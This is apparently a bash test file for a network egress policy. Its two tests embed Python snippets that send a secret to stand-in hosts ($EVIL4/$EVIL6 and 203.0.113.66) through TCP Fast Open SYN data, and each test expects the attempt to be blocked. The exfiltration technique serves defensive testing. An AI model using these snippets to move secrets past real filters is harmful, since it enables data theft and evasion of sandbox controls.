# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# TCP Fast Open connects within sendto(), and its SYN may carry data.

test_a_fast_open_carries_nothing_out() {
	attack <<-'END'
	import socket, sys
	import job
	host = sys.argv[1]
	for _ in "ab":  # the first connection fetches the cookie, the second has data in its SYN
	    sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
	    sock.sendto(job.SECRET, socket.MSG_FASTOPEN, (host, 8080))
	    sock.recv(100)
	    sock.close()
	END
	local host
	policy_feed
	for host in $EVIL4 $EVIL6; do
		new_secret
		verdict not-allowed "${ATTACK[@]}" $host
	done
}

# With TCP_FASTOPEN_CONNECT, connect() sends nothing and the SYN leaves with the first write.
test_a_postponed_connect_carries_nothing_out() {
	attack <<-'END'
	import socket
	import job
	for _ in "ab":
	    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
	    sock.setsockopt(socket.IPPROTO_TCP, 30, 1)
	    sock.connect(("203.0.113.66", 8080))
	    sock.sendall(job.SECRET)
	    sock.recv(100)
	    sock.close()
	END
	policy_feed
	verdict not-allowed "${ATTACK[@]}"
}
